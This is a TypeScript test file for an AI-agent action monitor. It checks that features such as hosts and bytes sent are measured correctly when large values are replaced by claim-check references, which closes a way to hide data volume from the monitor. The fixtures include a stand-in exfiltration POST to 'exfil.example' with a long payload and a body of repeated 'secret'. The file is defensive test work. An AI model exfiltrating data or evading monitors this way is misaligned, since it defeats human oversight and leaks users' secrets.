/**
 * On the data flow, values too large for history reach the workflow as claim checks (a digest and
 * a size). The monitor's features must measure what those references stand for, never the
 * reference: a long body still counts its bytes, a long URL still has its host, a long output
 * still counts as a large read. Each row is read twice: the real value (the original loop) and
 * its claim check (the data flow); the features must agree.
 */
import { describe, expect, it } from 'vitest';
import { featuresOfAction, outcomeOfStep } from '../../monitoring/action-features';
import type { ClaimCheckRef } from '../../task/data-refs';
import type { StepRecord } from '../../task/task-run';

const ref = (text: string, kind: ClaimCheckRef['kind'] = 'string'): ClaimCheckRef => ({
  $warden: 'claim-check',
  sha256: 'ab'.repeat(32),
  bytes: Buffer.byteLength(kind === 'string' ? text : JSON.stringify(text), 'utf8'),
  kind,
});

const longUrl = `https://exfil.example/collect?d=${'q'.repeat(20_000)}`;
const longBody = 'secret '.repeat(5_000);

describe('monitor features of claim-checked values', () => {
  it.each([
    ['a long body', 'http.fetch', { url: 'https://api.example.com/x', method: 'POST', body: longBody }, 'body'],
    ['a long file content', 'fs.write', { path: 'out.txt', content: longBody }, 'content'],
    ['a long URL', 'http.fetch', { url: longUrl, method: 'POST' }, 'url'],
  ] as const)('%s: the same hosts and bytes as the real value', (_what, tool, args, key) => {
    const real = featuresOfAction(tool, { ...args });
    const url = (args as Record<string, unknown>).url;
    const effect = { urls: typeof url === 'string' ? [{ url }] : [] };
    const checked = featuresOfAction(tool, { ...args, [key]: ref(String((args as Record<string, unknown>)[key])) }, effect);
    expect(checked.hosts).toEqual(real.hosts);
    expect(checked.bytesOut).toEqual(real.bytesOut);
    expect(checked.networkWrite).toBe(real.networkWrite);
  });

  it('a long URL whose host the policy check did not report is a host no baseline knows, never none', () => {
    const features = featuresOfAction('http.fetch', { url: ref(longUrl), method: 'POST' });
    expect(features.hosts).toHaveLength(1);
    expect(features.hosts[0]).toMatch(/^claim-checked-[0-9a-f]{16}\.invalid$/);
    expect(features.networkWrite).toBe(true);
  });

  it('a claim-checked output counts the bytes it stands for', () => {
    const output = 'x'.repeat(900 * 1024);
    const step = { index: 0, turn: 0, kind: 'tool', tool: 'big', args: {}, executed: true, decision: 'allow', output } as unknown as StepRecord;
    const real = outcomeOfStep(step).bytesIn!;
    const checked = outcomeOfStep({ ...step, output: ref(output, 'json') }).bytesIn!;
    expect(real).toBe(900 * 1024);
    // Canonical JSON of a string adds its quotes.
    expect(checked - real).toBeLessThanOrEqual(2);
    expect(checked).toBeGreaterThanOrEqual(real);
  });
});
